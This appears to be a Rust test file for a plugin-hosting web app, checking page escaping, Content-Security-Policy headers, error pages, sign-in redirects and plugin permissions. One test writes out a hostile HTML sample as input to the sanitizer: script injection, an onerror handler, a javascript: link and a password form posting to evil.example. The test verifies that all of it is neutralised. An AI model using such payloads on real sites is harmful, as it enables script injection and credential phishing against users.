//! Pages as they are shown.

use crate::support::Town;
use crate::{Place, between, text};

#[test]
fn a_page_is_shown_in_the_shell_with_the_plugins_way_around() {
    let place = Place::open();
    let reply = place.get("/p/speaker/");
    let html = text(&reply);
    assert_eq!(reply.status, 200, "{html}");
    for part in [
        "<h1>Speaking &lt;b&gt;freely&lt;/b&gt;</h1>",
        "<p>0 in en</p>",
        "class=\"plugin\" hx-disable",
        "<a href=\"/p/speaker/\" aria-current=\"page\">First</a>",
        "<a href=\"/p/speaker/form\">&lt;Form&gt;</a>",
        "The &lt;speaker&gt;",
    ] {
        assert!(html.contains(part), "{part} in {html}");
    }
    assert!(!html.contains("sign-out\">Out") && !html.contains("evil.example"), "{html}");
    let policy = reply.header("content-security-policy").unwrap();
    for part in [
        "default-src 'none'",
        "script-src 'self'",
        "style-src 'self'",
        "form-action 'self'",
        "base-uri 'none'",
        "frame-ancestors 'none'",
    ] {
        assert!(policy.contains(part), "{policy}");
    }
    assert!(!policy.contains("unsafe"), "{policy}");
}

#[test]
fn p1_a_hostile_plugins_html_is_harmless_in_the_browser_page() {
    let place = Place::open();
    let hostile = "</div></main><script>alert(1)</script><img src=x onerror=alert(1)><form action=\"https://evil.example\">\
        <input type=password name=p></form><a href=\"javascript:alert(1)\">x</a><div style=\"position:fixed\" id=main>over</div>";
    let query: String = form_urlencoded::byte_serialize(hostile.as_bytes()).collect();
    let html = text(&place.get(&format!("/p/speaker/echo?html={query}")));
    let region = between(&html, "<div class=\"plugin\" hx-disable>", "<p class=\"plugin-end\">");
    assert_eq!(region, "x<div id=\"p_main\">over</div></div>");
    let scripts: Vec<_> = html.split("<script").skip(1).collect();
    assert!(
        matches!(scripts[..], [own] if own.starts_with(" src=\"/assets/care.js\" defer></script>")),
        "{html}"
    );
}

#[test]
fn a_page_that_is_not_there_or_not_for_her_says_so() {
    let place = Place::open();
    for path in [
        "/p/speaker/nowhere",
        "/p/nobody/",
        "/p/nobody/x",
        "/p/host/",
        "/p/sp..aker/",
        "/p/speaker/do/x/y/z",
        "/p/speaker/call/x/y",
    ] {
        let reply = place.get(path);
        assert_eq!(reply.status, 404, "{path}");
        assert!(text(&reply).contains("<main"), "{path}: a page, for a browser");
    }
    let refused = place.get("/p/speaker/no");
    assert_eq!(refused.status, 403);
    assert!(text(&refused).contains("not &lt;b&gt;today&lt;/b&gt;"));
    let long = place.get("/p/speaker/long");
    assert_eq!(long.status, 502);
    assert!(text(&long).contains("This page cannot be shown"));
}

#[test]
fn a_stranger_is_asked_to_sign_in_where_the_plugin_wants_it() {
    let place = Place::open();
    assert_eq!(place.stranger("/p/speaker/").status, 200);
    let reply = place.stranger("/p/speaker/me?x=1");
    assert_eq!(
        (reply.status, reply.header("location").unwrap()),
        (303, "/sign-in?to=%2Fp%2Fspeaker%2Fme%3Fx%3D1")
    );
    let taking = place.stranger("/p/till/call/till/take");
    assert_eq!(taking.header("location").unwrap(), "/sign-in?to=%2Fp%2Ftill%2Fcall%2Ftill%2Ftake");
}

#[test]
fn a_members_name_is_put_in_by_the_host() {
    let place = Place::open();
    let html = text(&place.get("/p/speaker/me"));
    assert!(
        html.contains("<span class=\"h-party\">")
            && html.contains("<bdi><a href=\"/members/ana\">ana</a></bdi>"),
        "{html}"
    );
}

#[test]
fn a_filter_is_a_get_whose_fields_the_plugin_sees_by_its_own_names() {
    let place = Place::open();
    let html = text(&place.get("/p/speaker/find?p_from=2026-01-01"));
    assert!(html.contains("<p>from 2026-01-01</p>"), "{html}");
    assert!(
        html.contains("<form action=\"/p/speaker/find\" method=\"get\"><input name=\"p_from\"></form>"),
        "{html}"
    );
}

#[test]
fn a_page_is_in_the_viewers_language() {
    let place = Place::open();
    let request = crate::Request::get(crate::HOST, "/p/speaker/").header("Accept-Language", "es-MX,es;q=0.9");
    let html = text(&place.server.send(&request));
    assert!(html.contains("<p>0 in es</p>") && html.contains("Todo lo que se puede hacer"), "{html}");
}

#[test]
fn a_plugin_lists_what_she_herself_may_do() {
    let place = Place::open();
    let html = text(&place.get("/p/speaker/call"));
    for part in
        ["/p/speaker/call/speaking/say", "/p/speaker/call/speaking/buy", "/p/speaker/call/speaking/said"]
    {
        assert!(html.contains(part), "{part} in {html}");
    }
    assert!(!html.contains("speaking/hush") && !html.contains("render"), "{html}");
    let steward = place.town.session(steward(&place.town), "test");
    let place = Place { cookie: steward, ..place };
    assert!(text(&place.get("/p/speaker/call")).contains("speaking/hush"));
    let root = place.get("/p/till/");
    assert_eq!((root.status, root.header("location").unwrap()), (303, "/p/till/call"));
    assert_eq!(place.get("/p/speaker").header("location").unwrap(), "/p/speaker/");
}

fn steward(town: &Town) -> hamlet_reflect::Id {
    town.founded.steward
}
